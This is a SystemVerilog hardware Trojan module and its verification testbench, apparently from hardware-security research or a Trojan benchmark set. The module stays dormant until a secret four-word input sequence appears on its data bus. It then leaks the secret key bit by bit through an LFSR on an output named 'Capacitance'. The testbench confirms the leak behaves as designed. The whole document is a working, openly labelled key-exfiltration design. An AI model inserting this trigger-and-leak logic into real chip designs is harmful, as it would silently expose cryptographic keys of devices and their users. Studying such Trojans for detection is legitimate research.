// File: rtl/tj_seq_trigger.sv
// rtl/tj_seq_trigger.sv - sequence-armed trigger that leaks key bits through an LFSR.
// Optional macro TJ_TIMEOUT_EN: disarm after TIMEOUT armed cycles.
module tj_seq_trigger #(
  parameter int                          DATA_W    = 128,
  parameter int                          KEY_W     = 128,
  parameter int                          SEQ_LEN   = 4,
  parameter int                          LEAK_W    = 64,
  parameter logic [SEQ_LEN*DATA_W-1:0]   PATTERN   = '0,
  parameter logic [LEAK_W-1:0]           LFSR_SEED = LEAK_W'(64'hFFFF_FFFF_FFFF_FFFF),
  parameter int                          TIMEOUT   = 1024
) (
  input  logic                      clk,
  input  logic                      rst,
  input  logic [DATA_W-1:0]         state,
  input  logic                      state_valid,
  input  logic [KEY_W-1:0]          key,
  output logic                      Tj_Trig,
  output logic [LEAK_W-1:0]         Capacitance,
  output logic [$clog2(KEY_W)-1:0]  leak_idx
);

  localparam int IDX_W  = (SEQ_LEN > 1) ? $clog2(SEQ_LEN) : 1;
  localparam int LIDX_W = $clog2(KEY_W);
  localparam logic [IDX_W-1:0]  LAST_IDX  = IDX_W'(SEQ_LEN - 1);
  localparam logic [LIDX_W-1:0] LAST_LIDX = LIDX_W'(KEY_W - 1);

  // Maximal-length Fibonacci taps; unsupported widths fall back to the top two bits.
  function automatic logic [127:0] taps_for(input int w);
    case (w)
      8:       return 128'hB8;
      16:      return 128'hD008;
      32:      return 128'h8020_0003;
      64:      return 128'hD800_0000_0000_0000;
      128:     return 128'hA000_0014_0000_0000_0000_0000_0000_0000;
      default: return 128'h3 << (w - 2);
    endcase
  endfunction

  localparam logic [LEAK_W-1:0] TAP_MASK = LEAK_W'(taps_for(LEAK_W));

  typedef enum logic [1:0] {S_IDLE, S_MATCH, S_ARMED} fsm_e;

  fsm_e              fsm_q, fsm_d;
  logic [IDX_W-1:0]  idx_q, idx_d;
  logic [LIDX_W-1:0] leak_idx_q, leak_idx_d;
  logic [LEAK_W-1:0] lfsr_q, lfsr_d;
  logic [DATA_W-1:0] cur_pat, first_pat;
  logic              fb;

`ifdef TJ_TIMEOUT_EN
  localparam int TMO_W = $clog2(TIMEOUT + 1);
  logic [TMO_W-1:0] tmo_q, tmo_d;
`endif

  assign cur_pat   = PATTERN[int'(idx_q)*DATA_W +: DATA_W];
  assign first_pat = PATTERN[DATA_W-1:0];

  always_comb begin
    fsm_d      = fsm_q;
    idx_d      = idx_q;
    leak_idx_d = '0;
`ifdef TJ_TIMEOUT_EN
    tmo_d      = '0;
`endif
    case (fsm_q)
      S_IDLE, S_MATCH: begin
        if (state_valid) begin
          if (state == cur_pat) begin
            if (idx_q == LAST_IDX) begin
              fsm_d = S_ARMED;
              idx_d = '0;
            end else begin
              fsm_d = S_MATCH;
              idx_d = idx_q + IDX_W'(1);
            end
          end else if (state == first_pat) begin
            // A failed match that restarts the sequence counts as step one.
            fsm_d = S_MATCH;
            idx_d = IDX_W'(1);
          end else begin
            fsm_d = S_IDLE;
            idx_d = '0;
          end
        end
      end
      S_ARMED: begin
        leak_idx_d = (leak_idx_q == LAST_LIDX) ? '0 : leak_idx_q + LIDX_W'(1);
`ifdef TJ_TIMEOUT_EN
        if (tmo_q == TMO_W'(TIMEOUT - 1)) begin
          fsm_d      = S_IDLE;
          leak_idx_d = '0;
        end else begin
          tmo_d = tmo_q + TMO_W'(1);
        end
`endif
      end
      default: begin
        fsm_d = S_IDLE;
        idx_d = '0;
      end
    endcase
  end

  always_comb begin
    fb = ^(lfsr_q & TAP_MASK);
    if (fsm_q == S_ARMED) begin
      fb = fb ^ key[leak_idx_q];
    end
    lfsr_d = {lfsr_q[LEAK_W-2:0], fb};
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      fsm_q      <= S_IDLE;
      idx_q      <= '0;
      leak_idx_q <= '0;
      lfsr_q     <= LFSR_SEED;
    end else begin
      fsm_q      <= fsm_d;
      idx_q      <= idx_d;
      leak_idx_q <= leak_idx_d;
      lfsr_q     <= lfsr_d;
    end
  end

`ifdef TJ_TIMEOUT_EN
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      tmo_q <= '0;
    end else begin
      tmo_q <= tmo_d;
    end
  end
`endif

  assign Tj_Trig     = (fsm_q == S_ARMED);
  assign Capacitance = lfsr_q;
  assign leak_idx    = leak_idx_q;

endmodule

// File: tb/tb_tj_seq_trigger.sv
// tb/tb_tj_seq_trigger.sv - scoreboard bench for tj_seq_trigger against a behavioural model.
module tb_tj_seq_trigger;

  localparam int DATA_W  = 16;
  localparam int KEY_W   = 16;
  localparam int SEQ_LEN = 4;
  localparam int LEAK_W  = 16;
  localparam logic [63:0] PATTERN = 64'h7081_5E6F_3C4D_1A2B;
  localparam logic [15:0] SEED    = 16'hACE1;
  localparam int TIMEOUT = 8;

  logic        clk = 1'b0;
  logic        rst = 1'b1;
  logic [15:0] state_i = '0;
  logic        state_valid = 1'b0;
  logic [15:0] key_i = '0;
  logic        Tj_Trig;
  logic [15:0] cap;
  logic [3:0]  lidx;

  tj_seq_trigger #(
    .DATA_W(DATA_W), .KEY_W(KEY_W), .SEQ_LEN(SEQ_LEN), .LEAK_W(LEAK_W),
    .PATTERN(PATTERN), .LFSR_SEED(SEED), .TIMEOUT(TIMEOUT)
  ) dut (
    .clk(clk), .rst(rst), .state(state_i), .state_valid(state_valid), .key(key_i),
    .Tj_Trig(Tj_Trig), .Capacitance(cap), .leak_idx(lidx)
  );

  always #5 clk = ~clk;

  typedef struct {
    logic        trig;
    logic [15:0] cap;
    logic [3:0]  lidx;
  } exp_t;

  exp_t  sbq[$];
  int    n_vec = 0;
  int    n_bad = 0;
  string phase = "reset";

  logic [15:0] pat[4] = '{16'h1A2B, 16'h3C4D, 16'h5E6F, 16'h7081};
  int          taps[4] = '{16, 15, 13, 4};

  int          prog;
  bit          armed;
  int          acnt;
  logic [15:0] mlfsr;

  task automatic model_reset();
    prog  = 0;
    armed = 0;
    acnt  = 0;
    mlfsr = SEED;
  endtask

  task automatic model_step(input logic v, input logic [15:0] s, input logic [15:0] k);
    bit fb;
    fb = 0;
    foreach (taps[i]) fb ^= mlfsr[taps[i]-1];
    if (armed) fb ^= k[acnt % KEY_W];
    mlfsr = {mlfsr[14:0], fb};
    if (armed) begin
      acnt++;
`ifdef TJ_TIMEOUT_EN
      if (acnt == TIMEOUT) begin
        armed = 0;
        acnt  = 0;
      end
`endif
    end else if (v) begin
      if (s == pat[prog]) begin
        prog++;
        if (prog == SEQ_LEN) begin
          armed = 1;
          prog  = 0;
          acnt  = 0;
        end
      end else if (s == pat[0]) begin
        prog = 1;
      end else begin
        prog = 0;
      end
    end
  endtask

  function automatic exp_t model_out();
    exp_t e;
    e.trig = armed;
    e.cap  = mlfsr;
    e.lidx = armed ? 4'(acnt % KEY_W) : 4'd0;
    return e;
  endfunction

  task automatic check(input string name, input exp_t e);
    n_vec++;
    if (Tj_Trig !== e.trig || cap !== e.cap || lidx !== e.lidx) begin
      n_bad++;
      $display("FAIL %s @%0t: got trig=%b cap=%h idx=%0d, want trig=%b cap=%h idx=%0d",
               name, $time, Tj_Trig, cap, lidx, e.trig, e.cap, e.lidx);
    end
  endtask

  always @(posedge clk) begin
    #1;
    if (sbq.size() > 0) begin
      check(phase, sbq.pop_front());
    end
  end

  task automatic drive(input logic v, input logic [15:0] s, input logic [15:0] k);
    @(negedge clk);
    rst         = 1'b0;
    state_valid = v;
    state_i     = s;
    key_i       = k;
    model_step(v, s, k);
    sbq.push_back(model_out());
  endtask

  // Asserts reset between clock edges and checks the outputs before any edge arrives.
  task automatic do_reset();
    exp_t e;
    @(negedge clk);
    #2;
    rst         = 1'b1;
    state_valid = 1'b1;
    state_i     = pat[0];
    model_reset();
    e = model_out();
    #1;
    check({phase, "_async_rst"}, e);
    @(posedge clk);
    #1;
    check({phase, "_rst_hold"}, e);
  endtask

  task automatic arm_seq(input logic [15:0] k);
    for (int i = 0; i < SEQ_LEN; i++) drive(1'b1, pat[i], k);
  endtask

  logic [15:0] rs;
  int          r;

  initial begin
    model_reset();
    do_reset();

    phase = "basic_arm";
    arm_seq(16'h0);
    for (int i = 0; i < 4; i++) drive(1'b1, pat[0], $urandom());

    phase = "resync";
    do_reset();
    drive(1'b1, pat[0], 16'h0);
    drive(1'b1, pat[1], 16'h0);
    drive(1'b1, pat[0], 16'h0);
    drive(1'b1, pat[1], 16'h0);
    drive(1'b1, pat[2], 16'h0);
    drive(1'b1, pat[3], 16'h0);
    drive(1'b0, 16'h0, 16'h0);

    phase = "gap";
    do_reset();
    drive(1'b1, pat[0], 16'h0);
    drive(1'b1, pat[1], 16'h0);
    for (int i = 0; i < 5; i++) drive(1'b0, $urandom(), 16'h0);
    drive(1'b1, pat[2], 16'h0);
    drive(1'b1, pat[3], 16'h0);
    drive(1'b0, 16'h0, 16'h0);

    phase = "key_ones";
    do_reset();
    arm_seq(16'hFFFF);
    for (int i = 0; i < KEY_W + 4; i++) drive(1'b0, 16'h0, 16'hFFFF);

    phase = "key_zero";
    do_reset();
    arm_seq(16'h0000);
    for (int i = 0; i < KEY_W + 4; i++) drive(1'b0, 16'h0, 16'h0000);

    phase = "long_armed";
    do_reset();
    arm_seq($urandom());
    for (int i = 0; i < 1000; i++) drive($urandom_range(0, 1), pat[$urandom_range(0, 3)], $urandom());

    phase = "random";
    for (int t = 0; t < 40; t++) begin
      do_reset();
      for (int c = 0; c < 30; c++) begin
        r = $urandom_range(0, 9);
        if (r < 5)      rs = pat[prog];
        else if (r < 8) rs = pat[$urandom_range(0, 3)];
        else            rs = $urandom();
        drive($urandom_range(0, 3) != 0, rs, $urandom());
      end
    end

    phase = "drain";
    @(negedge clk);
    @(negedge clk);
    n_vec++;
    if (sbq.size() != 0) begin
      n_bad++;
      $display("FAIL drain: got %0d pending entries, want 0", sbq.size());
    end

    $display("== %0d vectors applied, %0d miscompares ==", n_vec, n_bad);
    $finish;
  end

endmodule
